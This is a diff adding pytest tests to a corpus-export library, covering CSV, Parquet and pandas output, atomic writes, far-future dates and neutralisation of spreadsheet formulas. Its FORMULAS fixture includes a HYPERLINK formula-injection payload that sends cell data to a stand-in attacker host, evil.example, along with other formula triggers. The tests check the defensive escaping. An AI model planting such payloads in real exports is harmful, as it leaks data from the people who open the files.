@@ -4,6 +4,7 @@ half a file behind or put a live formula in a CSV cell."""
 
 from __future__ import annotations
 
+import csv
 import datetime
 import errno
 import io
@@ -466,3 +467,115 @@ def test_a_folder_or_a_missing_folder_is_an_oserror_naming_the_target(
     with pytest.raises(FileNotFoundError) as caught:
         corpus.to_jsonl(missing)
     assert caught.value.filename == str(missing)
+
+
+# --- CSV, Parquet and pandas: whole files, no formulas, dates to 9999 ----------------
+
+
+def test_a_season_past_9999_exports_to_csv_pandas_and_arrow(corpus: natojp.Corpus) -> None:
+    one = natojp.Corpus([dated(corpus, "9999-24")])
+    buffer = io.StringIO()
+    one.to_csv(buffer)
+    (row,) = csv.DictReader(io.StringIO(buffer.getvalue()))
+    assert (row["date_start"], row["date_end"]) == ("9999-12-01", "9999-12-31")
+    pytest.importorskip("pandas")
+    frame = one.to_pandas()
+    assert frame["date_end"][0].to_pydatetime().date() == datetime.date(9999, 12, 31)
+    pytest.importorskip("pyarrow")
+    assert one.to_arrow().column("date_end")[0].as_py() == datetime.date(9999, 12, 31)
+
+
+def test_csv_and_arrow_refuse_nan_metadata(corpus: natojp.Corpus) -> None:
+    one = natojp.Corpus([attrs.evolve(corpus[0], metadata={"score": math.nan})])
+    with pytest.raises(SchemaError, match="is not a JSON number") as caught:
+        one.to_csv(io.StringIO())
+    assert caught.value.json_path == '$.metadata["score"]'
+    pytest.importorskip("pyarrow")
+    with pytest.raises(SchemaError):
+        one.to_arrow()
+
+
+def test_a_bad_third_row_leaves_the_old_csv(
+    corpus: natojp.Corpus, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from natojp import _export
+
+    path = tmp_path / "out.csv"
+    path.write_bytes(b"old,csv\r\n")
+    fail_on_third(monkeypatch, _export, "csv_cell")
+    with pytest.raises(RuntimeError):
+        corpus.to_csv(path)
+    assert path.read_bytes() == b"old,csv\r\n" and files_in(tmp_path) == ["out.csv"]
+
+
+def test_a_failing_parquet_writer_leaves_the_old_file(
+    corpus: natojp.Corpus, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    pytest.importorskip("pyarrow")
+    import pyarrow.parquet as pq
+
+    def half(table: Any, where: Any, **kwargs: Any) -> None:
+        where.write(b"PAR1 and then nothing")
+        raise OSError(errno.EIO, "Input/output error")
+
+    path = tmp_path / "out.parquet"
+    path.write_bytes(b"old parquet")
+    monkeypatch.setattr(pq, "write_table", half)
+    with pytest.raises(OSError, match=r"out\.parquet"):
+        corpus.to_parquet(path)
+    assert path.read_bytes() == b"old parquet" and files_in(tmp_path) == ["out.parquet"]
+
+
+@pytest.mark.usefixtures("full_disk")
+def test_cli_export_on_a_full_disk_says_which_file(
+    old_file: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    before = old_file.read_bytes()
+    assert main(["export", "-o", str(old_file)]) == 1
+    err = capsys.readouterr().err
+    assert str(old_file) in err and "No space left on device" in err
+    assert old_file.read_bytes() == before and files_in(old_file.parent) == ["out.jsonl"]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "-2+3",
+    "+1",
+    "@SUM(A1)",
+    "\tx",
+    "\rx",
+]
+
+
+def formula_corpus(corpus: natojp.Corpus) -> natojp.Corpus:
+    docs = [attrs.evolve(corpus[i], title=title) for i, title in enumerate(FORMULAS[:5])]
+    docs.append(attrs.evolve(corpus[0], id="sixth", title=FORMULAS[5], authors=("=1+1", "Ann")))
+    docs.append(attrs.evolve(corpus[1], id="seventh", title="a = b - c"))
+    return natojp.Corpus(docs)
+
+
+def test_csv_cells_that_would_be_formulas_start_with_a_quote(corpus: natojp.Corpus) -> None:
+    buffer = io.StringIO()
+    formula_corpus(corpus).to_csv(buffer)
+    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
+    assert [r["title"] for r in rows] == ["'" + title for title in FORMULAS] + ["a = b - c"]
+    assert rows[5]["authors"] == "'=1+1; Ann"
+    # Nothing else changes: ids, dates and counts are as the records have them.
+    records = formula_corpus(corpus).to_records()
+    assert [r["id"] for r in rows] == [r["id"] for r in records]
+    assert [r["date_start"] for r in rows] == [r["date_start"] or "" for r in records]
+
+
+def test_cli_csv_export_neutralises_formulas_to_stdout_and_file(
+    corpus: natojp.Corpus, tmp_path: Path
+) -> None:
+    source = tmp_path / "formulas.jsonl"
+    formula_corpus(corpus).to_jsonl(source)
+    out = io.StringIO()
+    assert main(["export", "--format", "csv", "--corpus", str(source)], out=out) == 0
+    target = tmp_path / "out.csv"
+    assert main(["export", "--format", "csv", "--corpus", str(source), "-o", str(target)]) == 0
+    for text in (out.getvalue(), target.read_text(encoding="utf-8")):
+        titles = [r["title"] for r in csv.DictReader(io.StringIO(text))]
+        assert titles[:2] == ["'" + FORMULAS[0], "'-2+3"]
+        assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in titles)
